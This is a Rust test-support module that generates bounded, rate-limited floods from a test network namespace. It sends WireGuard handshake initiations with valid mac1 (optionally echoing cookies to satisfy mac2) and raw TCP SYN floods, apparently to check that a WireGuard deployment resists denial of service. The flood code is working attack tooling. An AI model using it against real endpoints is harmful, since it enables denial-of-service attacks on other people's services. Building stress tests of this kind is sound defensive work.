//! Bounded floods for the tests, run from a thread that entered a network namespace of the
//! test's own: WireGuard handshake initiations with a valid mac1 (the victim's public key is
//! public), and TCP SYNs. Every flood stops by itself after its duration and never exceeds its
//! rate; dropping a `Flood` stops it early and waits for its thread.
#![allow(dead_code)]

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use blake2::digest::{Digest, KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac};
use chacha20poly1305::aead::Aead;
use chacha20poly1305::{XChaCha20Poly1305, XNonce};

type Mac16 = Blake2sMac<blake2::digest::consts::U16>;

/// A handshake initiation is 148 bytes: type, 3 reserved, sender index, ephemeral (32),
/// encrypted static (48), encrypted timestamp (28), mac1 (16), mac2 (16).
const INIT_LEN: usize = 148;
const MAC1_AT: usize = 116;
const MAC2_AT: usize = 132;
/// A cookie reply: type 3, receiver index, nonce (24), encrypted cookie (16 + 16 tag).
const COOKIE_REPLY_LEN: usize = 64;
/// Distinct initiations a flood sends in turn.
const POOL: usize = 4096;
/// Cookie replies opened when not echoing (the rest are counted).
pub const SAMPLE: u64 = 2000;

/// What a flood is aimed at and how hard.
pub struct HandshakeFlood {
    /// The namespace the packets leave from (its address is the source).
    pub netns: PathBuf,
    pub target: SocketAddr,
    /// The victim's public key (raw).
    pub victim: [u8; 32],
    /// Packets per second (a ceiling, never exceeded).
    pub rate: u32,
    pub duration: Duration,
    /// Answer cookie replies as a real WireGuard initiator would: every later initiation
    /// carries mac2 computed with the latest cookie (what a kernel link that a pod with
    /// CAP_NET_ADMIN points at the victim does by itself).
    pub echo_cookies: bool,
    /// Source addresses (IPv4, local to `netns`) taken in turn, one per packet; empty: the
    /// one the route gives.
    pub sources: Vec<Ipv4Addr>,
}

#[derive(Debug, Default, Clone)]
pub struct FloodStats {
    pub sent: u64,
    pub send_errors: u64,
    /// Cookie replies received (the victim asked for mac2).
    pub cookie_replies: u64,
    /// Cookie replies that opened with the victim's public key and the packet's mac1 (when
    /// not echoing, only the first `SAMPLE` are tried).
    pub cookies_opened: u64,
    /// Handshake responses received: the attacker completed a handshake (must stay 0).
    pub responses: u64,
    pub other: u64,
    pub elapsed: Duration,
}

impl FloodStats {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A running flood; `finish` waits for its end, dropping it stops it.
pub struct Flood<T: Send + 'static> {
    stop: Arc<AtomicBool>,
    handle: Option<JoinHandle<T>>,
}

impl<T: Send + 'static> Flood<T> {
    pub fn finish(mut self) -> T {
        self.handle.take().unwrap().join().expect("flood thread")
    }
}

impl<T: Send + 'static> Drop for Flood<T> {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(handle) = self.handle.take() {
            let _ = handle.join();
        }
    }
}

/// Enter `netns` (this thread only).
fn enter(netns: &PathBuf) {
    let file = std::fs::File::open(netns).unwrap_or_else(|e| panic!("{netns:?}: {e}"));
    nix::sched::setns(&file, nix::sched::CloneFlags::CLONE_NEWNET).expect("setns");
}

/// Paces sends: at most `rate` per second on average, at most 1 ms worth per tick, for
/// `duration` or until `stop`.
struct Pacer {
    start: Instant,
    rate: f64,
    duration: Duration,
    done: u64,
}

impl Pacer {
    fn new(rate: u32, duration: Duration) -> Pacer {
        Pacer {
            start: Instant::now(),
            rate: rate as f64,
            duration,
            done: 0,
        }
    }

    /// How many to send now (0 after the end).
    fn due(&mut self, stop: &AtomicBool) -> Option<u64> {
        let elapsed = self.start.elapsed();
        if elapsed >= self.duration || stop.load(Ordering::SeqCst) {
            return None;
        }
        let target = (elapsed.as_secs_f64() * self.rate) as u64;
        // Never burst to catch up more than a millisecond's worth after a stall.
        let burst = (self.rate / 1000.0).ceil() as u64 + 1;
        if target > self.done + burst {
            self.done = target - burst;
        }
        Some(target.saturating_sub(self.done))
    }
}

/// xorshift64*: enough randomness for packet filler, cheap enough for 50k packets/s.
struct Rng(u64);

impl Rng {
    fn new() -> Rng {
        let seed = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos() as u64
            ^ (std::process::id() as u64) << 32;
        Rng(seed | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let v = self.next().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

fn mac16(key: &[u8], parts: &[&[u8]]) -> [u8; 16] {
    let mut mac = <Mac16 as KeyInit>::new_from_slice(key).expect("key length");
    for part in parts {
        mac.update(part);
    }
    mac.finalize().into_bytes().into()
}

fn hash(label: &[u8], key: &[u8; 32]) -> [u8; 32] {
    let mut h = Blake2s256::new();
    h.update(label);
    h.update(key);
    h.finalize().into()
}

/// An initiation with random contents (so the victim pays for its ephemeral key) and a
/// valid mac1; mac2 is zero until a cookie is known (`set_mac2`).
fn initiation(rng: &mut Rng, sender: u32, mac1_key: &[u8; 32]) -> [u8; INIT_LEN] {
    let mut msg = [0u8; INIT_LEN];
    msg[0] = 1;
    msg[4..8].copy_from_slice(&sender.to_le_bytes());
    rng.fill(&mut msg[8..MAC1_AT]);
    let mac1 = mac16(mac1_key, &[&msg[..MAC1_AT]]);
    msg[MAC1_AT..MAC2_AT].copy_from_slice(&mac1);
    msg
}

fn set_mac2(msg: &mut [u8; INIT_LEN], cookie: &[u8; 16]) {
    let mac2 = mac16(cookie, &[&msg[..MAC2_AT]]);
    msg[MAC2_AT..].copy_from_slice(&mac2);
}

/// Start a handshake-initiation flood.
pub fn handshake_flood(spec: HandshakeFlood) -> Flood<FloodStats> {
    let stop = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&stop);
    let handle = std::thread::spawn(move || run_handshake_flood(&spec, &flag));
    Flood {
        stop,
        handle: Some(handle),
    }
}

fn run_handshake_flood(spec: &HandshakeFlood, stop: &AtomicBool) -> FloodStats {
    enter(&spec.netns);
    let socket = UdpSocket::bind(if spec.target.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    })
    .expect("bind flood socket");
    socket.set_nonblocking(true).unwrap();
    // The packets are made before the flood and sent in turn (their sender index is their
    // place in the pool): the victim pays the same for each, and the generator keeps its rate
    // on a busy machine.
    let mac1_key = hash(b"mac1----", &spec.victim);
    let mut rng = Rng::new();
    let mut pool: Vec<[u8; INIT_LEN]> = (0..POOL)
        .map(|i| initiation(&mut rng, i as u32, &mac1_key))
        .collect();
    let cookie_cipher = XChaCha20Poly1305::new(&hash(b"cookie--", &spec.victim).into());
    let mut cookie: Option<[u8; 16]> = None;
    let mut stats = FloodStats::default();
    let mut pacer = Pacer::new(spec.rate, spec.duration);
    let mut buf = [0u8; 2048];
    while let Some(due) = pacer.due(stop) {
        for _ in 0..due {
            let msg = &pool[pacer.done as usize % POOL];
            let sent = if spec.sources.is_empty() {
                socket.send_to(msg, spec.target).is_ok()
            } else {
                let source = spec.sources[pacer.done as usize % spec.sources.len()];
                send_from(&socket, msg, source, spec.target)
            };
            pacer.done += 1;
            if sent {
                stats.sent += 1;
            } else {
                stats.send_errors += 1;
            }
        }
        while let Ok((n, _)) = socket.recv_from(&mut buf) {
            match (buf[0], n) {
                (3, COOKIE_REPLY_LEN) => {
                    stats.cookie_replies += 1;
                    // Every reply is opened while echoing; otherwise a sample (opening costs
                    // the generator more than sending).
                    if !spec.echo_cookies && stats.cookie_replies > SAMPLE {
                        continue;
                    }
                    let idx = u32::from_le_bytes(buf[4..8].try_into().unwrap()) as usize;
                    let Some(sent) = pool.get(idx) else { continue };
                    let opened = cookie_cipher.decrypt(
                        XNonce::from_slice(&buf[8..32]),
                        chacha20poly1305::aead::Payload {
                            msg: &buf[32..64],
                            aad: &sent[MAC1_AT..MAC2_AT],
                        },
                    );
                    let Ok(plain) = opened else { continue };
                    stats.cookies_opened += 1;
                    let fresh: [u8; 16] = plain[..16].try_into().unwrap();
                    if spec.echo_cookies && cookie != Some(fresh) {
                        for msg in &mut pool {
                            set_mac2(msg, &fresh);
                        }
                        cookie = Some(fresh);
                    }
                }
                (2, _) => stats.responses += 1,
                _ => stats.other += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    stats.elapsed = pacer.start.elapsed();
    stats
}

/// One datagram from a chosen local source address (IP_PKTINFO), so one socket serves many
/// sources and receives every reply.
fn send_from(socket: &UdpSocket, msg: &[u8], source: Ipv4Addr, to: SocketAddr) -> bool {
    use nix::sys::socket::{ControlMessage, MsgFlags, SockaddrStorage, sendmsg};
    use std::os::fd::AsRawFd;
    let info = nix::libc::in_pktinfo {
        ipi_ifindex: 0,
        ipi_spec_dst: nix::libc::in_addr {
            s_addr: u32::from(source).to_be(),
        },
        ipi_addr: nix::libc::in_addr { s_addr: 0 },
    };
    let to = SockaddrStorage::from(to);
    sendmsg(
        socket.as_raw_fd(),
        &[std::io::IoSlice::new(msg)],
        &[ControlMessage::Ipv4PacketInfo(&info)],
        MsgFlags::empty(),
        Some(&to),
    )
    .is_ok()
}

/// A SYN flood from a pod to another pod's TCP port: raw IPv4 SYNs with the flooding pod's
/// own source address (WireGuard drops any other) and random source ports.
pub struct SynFlood {
    pub netns: PathBuf,
    pub source: Ipv4Addr,
    pub target: Ipv4Addr,
    pub port: u16,
    pub rate: u32,
    pub duration: Duration,
}

pub fn syn_flood(spec: SynFlood) -> Flood<FloodStats> {
    let stop = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&stop);
    let handle = std::thread::spawn(move || run_syn_flood(&spec, &flag));
    Flood {
        stop,
        handle: Some(handle),
    }
}

fn checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = 0;
    for part in parts {
        for pair in part.chunks(2) {
            let word = if pair.len() == 2 {
                u16::from_be_bytes([pair[0], pair[1]])
            } else {
                u16::from_be_bytes([pair[0], 0])
            };
            sum += word as u32;
        }
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A TCP SYN segment (no IP header: the raw socket adds it).
fn syn(rng: &mut Rng, spec: &SynFlood) -> [u8; 20] {
    let mut tcp = [0u8; 20];
    let sport = 1024 + (rng.next() % 60000) as u16;
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&spec.port.to_be_bytes());
    tcp[4..8].copy_from_slice(&(rng.next() as u32).to_be_bytes());
    tcp[12] = 5 << 4; // data offset: 5 words
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&spec.source.octets());
    pseudo[4..8].copy_from_slice(&spec.target.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let sum = checksum(&[&pseudo, &tcp]);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    tcp
}

fn run_syn_flood(spec: &SynFlood, stop: &AtomicBool) -> FloodStats {
    use nix::sys::socket::{
        AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
    };
    use std::os::fd::AsRawFd;
    enter(&spec.netns);
    let fd = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_NONBLOCK | SockFlag::SOCK_CLOEXEC,
        SockProtocol::Tcp,
    )
    .expect("raw socket");
    let to = SockaddrIn::from(std::net::SocketAddrV4::new(spec.target, 0));
    let mut rng = Rng::new();
    let mut stats = FloodStats::default();
    let mut pacer = Pacer::new(spec.rate, spec.duration);
    while let Some(due) = pacer.due(stop) {
        for _ in 0..due {
            let segment = syn(&mut rng, spec);
            pacer.done += 1;
            match sendto(fd.as_raw_fd(), &segment, &to, MsgFlags::empty()) {
                Ok(_) => stats.sent += 1,
                Err(_) => stats.send_errors += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    stats.elapsed = pacer.start.elapsed();
    stats
}
